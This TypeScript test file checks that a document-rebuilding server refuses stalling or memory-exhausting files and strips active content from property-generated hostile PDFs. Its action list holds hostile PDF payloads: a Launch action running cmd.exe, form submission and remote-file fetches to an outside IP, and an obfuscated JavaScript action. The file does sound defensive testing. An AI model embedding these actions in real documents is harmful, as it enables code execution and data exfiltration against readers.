// Each document is rebuilt in a worker that is stopped at its budget
// (src/server/documents/rebuild/isolated.ts): files built to stall or exhaust a
// parser are answered in bounded time and refused, never accepted by default;
// and generated hostile PDFs (fast-check) come back refused or harmless, as
// pdf.js reads them, each within the bound.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { rebuildIsolated } from '../../../../src/server/documents/rebuild/isolated.ts';
import { stallingDocx, stallingPdfs } from '../../../../scripts/lib/hostile-documents.ts';
import {
  javaScriptAction,
  objectStream,
  pdfOf,
  pdfStream,
  pdfWithXrefStream,
  visiblePageObjects,
} from '../../../../scripts/lib/pdf-objects.ts';
import { docxBytes, pdfBytes, pngBytes } from '../../../../scripts/lib/sample-documents.ts';
import { harmless, whatRuns } from '../../../../scripts/lib/pdf-reader.ts';

/** A worker's start and end on a busy two-core machine, beyond the budget itself. */
const SLACK_MS = 1_500;

async function timed<T>(work: () => Promise<T>): Promise<{ result: T; ms: number }> {
  const started = performance.now();
  const result = await work();
  return { result, ms: performance.now() - started };
}

describe('a document rebuilt in a worker', () => {
  it('comes back as a copy, each in the order sent', async () => {
    const outcome = await rebuildIsolated([
      { format: 'pdf', bytes: pdfBytes('one') },
      { format: 'docx', bytes: docxBytes() },
      { format: 'png', bytes: pngBytes() },
    ]);
    expect(outcome.ok).toBe(true);
    if (outcome.ok) expect(outcome.copies.map((copy) => copy.length > 0)).toEqual([true, true, true]);
  });

  it('built to stall the parser, is refused as too slow once its budget is spent', async () => {
    const { result, ms } = await timed(() =>
      rebuildIsolated([{ format: 'pdf', bytes: stallingPdfs()['object streams without an end']! }], {
        documentMs: 1_000,
      }),
    );
    expect(result).toMatchObject({ ok: false, index: 0, reason: 'tooSlow' });
    expect(ms).toBeLessThan(1_000 + SLACK_MS);
  });

  it(
    'that exhausts the worker’s memory is refused as unreadable, and the process lives on',
    { timeout: 30_000 },
    async () => {
      const { result } = await timed(() =>
        // A budget long enough that the heap's ceiling, not the clock, ends it on a busy machine.
        rebuildIsolated([{ format: 'docx', bytes: stallingDocx()['elements nested a million deep']! }], {
          documentMs: 20_000,
          requestMs: 20_000,
        }),
      );
      expect(result).toMatchObject({ ok: false, reason: 'unreadable' });
      expect((await rebuildIsolated([{ format: 'pdf', bytes: pdfBytes() }])).ok).toBe(true);
    },
  );

  it('of four, all stalling, is answered within the request’s budget, naming the first refused', async () => {
    const stalling = stallingPdfs()['streams without an end']!;
    const { result, ms } = await timed(() =>
      rebuildIsolated(
        Array.from({ length: 4 }, () => ({ format: 'pdf' as const, bytes: stalling })),
        { documentMs: 1_000, requestMs: 1_500 },
      ),
    );
    expect(result).toMatchObject({ ok: false, reason: 'tooSlow' });
    expect(ms).toBeLessThan(1_500 + SLACK_MS);
  });

  it('refused, stops the others: a stalling file beside a clean one ends with the refusal', async () => {
    const { result, ms } = await timed(() =>
      rebuildIsolated(
        [
          { format: 'pdf', bytes: Buffer.from('not a pdf') },
          { format: 'pdf', bytes: stallingPdfs()['streams without an end']! },
        ],
        { documentMs: 5_000 },
      ),
    );
    expect(result).toMatchObject({ ok: false, index: 0, reason: 'unreadable' });
    expect(ms).toBeLessThan(5_000);
  });
});

// ---------------------------------------------------------------------------
// Generated hostile PDFs: an action (issues 21 and 35) hidden in one of the places
// readers look, with its spelling and the file's framing varied, then damaged.

const actions = [
  javaScriptAction,
  '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  '<< /S /GoToR /F (\\\\\\\\203.0.113.7\\\\share\\\\a.pdf) /D [0 /Fit] >>',
  '<< /S /URI /URI (http://203.0.113.7/) >>',
  '<< /S /SubmitForm /F << /FS /URL /F (http://203.0.113.7/collect) >> >>',
  '<< /S /ImportData /F (\\\\\\\\203.0.113.7\\\\share\\\\d.fdf) >>',
  '<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>',
];

/** Where the action is reached from: each names object 5, which holds it. */
const hooks = [
  { catalog: '/OpenAction 5 0 R', page: '' },
  { catalog: '/AA << /WC 5 0 R >>', page: '' },
  { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', page: '' },
  { catalog: '', page: '/AA << /O 5 0 R >>' },
  { catalog: '', page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A 5 0 R >>]' },
  { catalog: '/AcroForm << /Fields [6 0 R] >>', page: '/Annots [6 0 R]' },
];

/** How object 5 is stored: as an object, or in an object stream under various filters and parameters. */
const storages = ['object', 'objectStream', 'abbreviatedFilter', 'indirectParms', 'insideStreamData'] as const;

function hostilePdf(action: string, hook: (typeof hooks)[number], storage: (typeof storages)[number]): Buffer {
  const widget = '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 50 50] /AA << /Fo 5 0 R >> >>';
  const page = visiblePageObjects(hook.catalog, hook.page);
  if (storage === 'object') return pdfOf([...page, action, widget]);
  if (storage === 'insideStreamData')
    return pdfOf([...page, pdfStream('/Subtype /Image', Buffer.from(`x\n5 0 obj\n${action}\nendobj\n`)), widget]);
  const extra =
    storage === 'indirectParms' ? '/DecodeParms 8 0 R' : storage === 'abbreviatedFilter' ? '/DP << /Columns 1 >>' : '';
  const stream = objectStream(
    { 5: action },
    storage === 'abbreviatedFilter' ? { filter: '/Fl', extra, filterKey: '/F' } : { extra },
  );
  return pdfWithXrefStream([...page, null, widget, stream, '<< /Columns 1 >>'], { 5: [7, 0] });
}

/** Damage a reader might meet: bytes cut, inserted or overwritten at some place. */
const damaged = (bytes: Buffer, at: number, kind: number, noise: Uint8Array): Buffer => {
  const position = Math.floor(at * bytes.length);
  if (kind === 0) return bytes;
  if (kind === 1) return bytes.subarray(0, position);
  if (kind === 2) return Buffer.concat([bytes.subarray(0, position), noise, bytes.subarray(position)]);
  const copy = Buffer.from(bytes);
  copy.set(noise.subarray(0, Math.max(0, copy.length - position)), position);
  return copy;
};

describe('generated hostile PDFs, each rebuilt in its worker', () => {
  it(
    'come back refused, or as a copy in which pdf.js finds nothing that runs or fetches, within the bound',
    { timeout: 120_000 },
    async () => {
      const budget = { documentMs: 2_000, requestMs: 2_000 };
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...actions),
          fc.constantFrom(...hooks),
          fc.constantFrom(...storages),
          fc.double({ min: 0, max: 1, noNaN: true }),
          fc.integer({ min: 0, max: 3 }),
          fc.uint8Array({ minLength: 1, maxLength: 64 }),
          async (action, hook, storage, at, kind, noise) => {
            const bytes = damaged(hostilePdf(action, hook, storage), at, kind, noise);
            const { result, ms } = await timed(() => rebuildIsolated([{ format: 'pdf', bytes }], budget));
            expect(ms).toBeLessThan(budget.documentMs + SLACK_MS);
            if (!result.ok) return;
            const read = await whatRuns(result.copies[0]!);
            expect(read).toEqual(harmless(read.pages));
          },
        ),
        { numRuns: 30 },
      );
    },
  );
});
